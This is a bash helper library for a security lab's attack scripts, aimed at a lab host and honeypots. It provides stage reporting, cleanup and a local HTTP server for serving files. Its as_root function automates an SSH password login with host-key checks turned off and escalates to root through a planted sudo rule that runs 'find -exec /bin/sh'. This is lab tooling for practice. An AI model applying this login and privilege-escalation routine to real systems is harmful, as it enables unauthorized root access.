# SPDX-License-Identifier: GPL-2.0-or-later
#
# NAME
#	stages.sh - what the lab's attacks share; sourced by them, runs nothing itself
# DESCRIPTION
#	An attack sets STAGES, sources this, says `need` which tools it uses, and goes through its stages.
#	It prints them, exits 0 if all were done, 1 with a message if one was not, and leaves nothing
#	running and nothing behind: what it starts goes to `pids`, what it writes to `scratch`.
#
#	SKEP_LAB_TARGET	the host that is attacked (10.10.10.81)
#	SKEP_LAB_NET	the network it is in (10.10.10.0/24)
#	SKEP_LAB_DIR	the folder of users.txt, passwords.txt and kit (this one)
set -uo pipefail
export LC_ALL=C.UTF-8

attack=$(basename "$0")
target=${SKEP_LAB_TARGET:-10.10.10.81}
net=${SKEP_LAB_NET:-10.10.10.0/24}
dir=${SKEP_LAB_DIR:-$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)}
hosts=()			# of the network: the four honeypots
for last in 53 80 81 110; do
	hosts+=("${net%.*}.$last")
done

pids=()
scratch=
stage_no=0
stage_name=
started=$SECONDS

stage()
{
	stage_no=$((stage_no + 1))
	stage_name=$1
	stage_start=$SECONDS
	echo "[$stage_no/$STAGES] $1"
}
done_in() { echo "      $1 ($((SECONDS - stage_start)) s)"; }
fail()
{
	echo "$attack: stage $stage_no/$STAGES ($stage_name) failed: $1" >&2
	exit 1
}
finish()
{
	local pid
	for pid in "${pids[@]}"; do
		kill "$pid" 2>/dev/null && wait "$pid" 2>/dev/null
	done
	[ -n "$scratch" ] && rm -rf "$scratch"
}
trap finish EXIT
trap 'exit 130' INT
trap 'exit 143' TERM HUP

# need TOOL... - and makes the scratch folder
need()
{
	local tool
	for tool; do
		command -v "$tool" >/dev/null || { echo "$attack: $tool: missing" >&2; exit 1; }
	done
	scratch=$(mktemp -d) || exit 1
}

# serve FOLDER PORT... - a web server on every address that is local here, once it answers
serve()
{
	local folder=$1 port tries=50
	shift
	for port; do
		(cd "$folder" && exec timeout 600 python3 -m http.server --bind 0.0.0.0 "$port") \
			>>"$scratch/http.log" 2>&1 &
		pids+=($!)
		until (exec 3<>"/dev/tcp/203.0.113.80/$port") 2>/dev/null; do
			kill -0 "${pids[-1]}" 2>/dev/null || fail "$(tail -n 1 "$scratch/http.log")"
			[ $((tries -= 1)) -gt 0 ] || fail "nothing listens on 203.0.113.80"
			sleep 0.1
		done
	done
}

# as_root COMMAND - in by the weak account, up by the planted sudo rule; what the terminal showed is
# printed. The command holds no single quote.
as_root()
{
	cat >"$scratch/as_root" <<-'END'
		set timeout 90
		spawn -noecho ssh -tt -F /dev/null -o UserKnownHostsFile=/dev/null -o GlobalKnownHostsFile=/dev/null \
			-o StrictHostKeyChecking=no -o PreferredAuthentications=password -o PubkeyAuthentication=no \
			-o NumberOfPasswordPrompts=1 -o ConnectTimeout=20 -o LogLevel=ERROR \
			[lindex $argv 0]@[lindex $argv 1] [lindex $argv 3]
		expect {
			-nocase "password:" { send -- "[lindex $argv 2]\r" }
			timeout { exit 1 }
			eof { exit 1 }
		}
		expect {
			eof {}
			timeout { exit 1 }
		}
	END
	timeout 120 expect -f "$scratch/as_root" webadmin "$target" meridian1 \
		"sudo find /etc/hostname -exec /bin/sh -c '$1' \\;" </dev/null
}
